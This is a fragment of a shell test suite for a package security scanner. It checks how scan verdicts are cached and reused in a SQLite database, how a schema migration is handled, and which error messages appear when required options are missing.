	# The reused verdict is not stored again: 3 verdicts for 3 artifacts.
	assert_equal "$(sqlite3 t.db 'select count(*) from artifacts')" 3
	assert_equal "$(scan --rescan pypi:alpha)" "alpha info scanned"
	# Other rules: another key.
	cp "$AURA_ROOT/data/rules.yaml" rules.yaml && echo '# changed' >>rules.yaml
	assert_equal "$(scan --rules rules.yaml pypi:alpha)" "alpha info scanned"
	assert_equal "$(scan --rules rules.yaml pypi:alpha)" "alpha info reused"
	# Other limits: another key.  A user's stage may change any verdict: never reused.
	assert_equal "$(scan --rules rules.yaml --unpack-timeout 30 pypi:alpha)" "alpha info scanned"
	assert_equal "$(scan --rules rules.yaml --unpack-timeout 30 pypi:alpha)" "alpha info reused"
	assert_equal "$(scan --rules rules.yaml --insert-after analyze=cat pypi:alpha)" "alpha info scanned"
	# An incomplete verdict is never reused.
	sqlite3 t.db "update artifacts set complete = 0"
	assert_equal "$(scan pypi:alpha)" "alpha info scanned"
	# A schema-1 database is migrated; its verdicts have no key and are scanned again.
	sqlite3 t.db "alter table scans drop column rules_digest; alter table scans drop column limits; update meta set value = '1' where key = 'schema'"
	assert_equal "$(scan pypi:bad-one)" "bad-one critical scanned"
	assert_equal "$(sqlite3 t.db "select value from meta where key = 'schema'")" 2
	assert_equal "$(scan pypi:bad-one)" "bad-one critical reused"
	# A reused record with no database to read it from: an error, never a silent pass.
	run -2 --separate-stderr bash -c "aura-fetch --index-url '$M' --db t.db --rules-digest '$digest' --limits unpack-cpu=default pypi:bad-one | aura-score --format json"
	[[ "$stderr" == *"no --db to read its verdict from"* ]] || fail "stderr: $stderr"
	run -2 --separate-stderr aura-fetch --db t.db pypi:alpha
	[[ $stderr == *"needs --rules-digest and --limits"* ]] || fail "stderr: $stderr"
}
